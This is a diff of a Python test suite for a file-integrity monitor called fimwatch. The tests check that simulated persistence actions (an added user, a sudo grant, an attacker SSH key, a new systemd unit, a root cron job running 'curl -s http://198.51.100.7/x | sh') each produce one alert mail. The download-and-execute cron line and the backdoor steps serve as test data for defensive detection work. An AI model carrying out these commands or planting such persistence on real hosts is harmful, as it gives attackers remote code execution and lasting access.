@@ -126,12 +126,19 @@ def show(capsys, subject, body):
         sys.stdout.write("\n--- %s\n%s\n" % (subject, "\n".join(body.splitlines()[:14])))
 
 
-def test_useradd_is_one_mail_saying_the_user_was_added(world, smtp, capsys):
-    fim, etc, _ = world
+def mail_after(fim, smtp, capsys, action, *args):
+    """Start the daemon, do what one admin command does, and return the one
+    mail it sends (subject, body) and what the action returned."""
     fim.daemon()
-    useradd(etc)
+    got = action(*args)
     subject, body = one_mail(smtp)
     show(capsys, subject, body)
+    return subject, body, got
+
+
+def test_useradd_is_one_mail_saying_the_user_was_added(world, smtp, capsys):
+    fim, etc, _ = world
+    subject, body, _ = mail_after(fim, smtp, capsys, useradd, etc)
     first = "CRITICAL on testhost: user eviltest (uid 1001) added; group eviltest (gid 1001) added"
     assert body.splitlines()[0] == first
     assert subject == "[fimwatch] CRITICAL user eviltest (uid 1001) added; group eviltest " \
@@ -153,20 +160,14 @@ def test_useradd_is_one_mail_saying_the_user_was_added(world, smtp, capsys):
 
 def test_usermod_aG_sudo_is_one_mail(world, smtp, capsys):
     fim, etc, _ = world
-    fim.daemon()
-    usermod_aG_sudo(etc)
-    subject, body = one_mail(smtp)
-    show(capsys, subject, body)
+    subject, body, _ = mail_after(fim, smtp, capsys, usermod_aG_sudo, etc)
     assert body.splitlines()[0] == "CRITICAL on testhost: alice added to group sudo"
     assert "alice added to group sudo on testhost (4 files)" in subject
 
 
 def test_authorized_keys_append_is_one_mail_with_the_fingerprint(world, smtp, capsys):
     fim, _, home = world
-    fim.daemon()
-    fp = key_append(home, fim.outside)
-    subject, body = one_mail(smtp)
-    show(capsys, subject, body)
+    subject, body, fp = mail_after(fim, smtp, capsys, key_append, home, fim.outside)
     assert body.splitlines()[0] == \
         "CRITICAL on testhost: SSH key added: ssh-ed25519 %s mallory@evil" % fp
     assert subject.startswith("[fimwatch] CRITICAL modified %s/.ssh/authorized_keys on "
@@ -177,10 +178,7 @@ def test_authorized_keys_append_is_one_mail_with_the_fingerprint(world, smtp, ca
 
 def test_new_cron_job_is_one_mail_with_its_content(world, smtp, capsys):
     fim, etc, _ = world
-    fim.daemon()
-    new_cron(etc)
-    subject, body = one_mail(smtp)
-    show(capsys, subject, body)
+    subject, body, _ = mail_after(fim, smtp, capsys, new_cron, etc)
     assert body.splitlines()[0] == "CRITICAL on testhost: cron job added: */5 * * * * as " \
                                    "root: curl -s http://198.51.100.7/x | sh"
     assert "+*/5 * * * * root curl -s http://198.51.100.7/x | sh" in body   # diff from nothing
@@ -188,10 +186,7 @@ def test_new_cron_job_is_one_mail_with_its_content(world, smtp, capsys):
 
 def test_new_enabled_unit_is_one_mail(world, smtp, capsys):
     fim, etc, _ = world
-    fim.daemon()
-    new_enabled_unit(etc)
-    subject, body = one_mail(smtp)
-    show(capsys, subject, body)
+    subject, body, _ = mail_after(fim, smtp, capsys, new_enabled_unit, etc)
     assert body.splitlines()[0] == \
         "CRITICAL on testhost: unit evil.service added: ExecStart=/usr/local/bin/evil -q, " \
         "WantedBy=multi-user.target; unit evil.service enabled (multi-user.target.wants)"
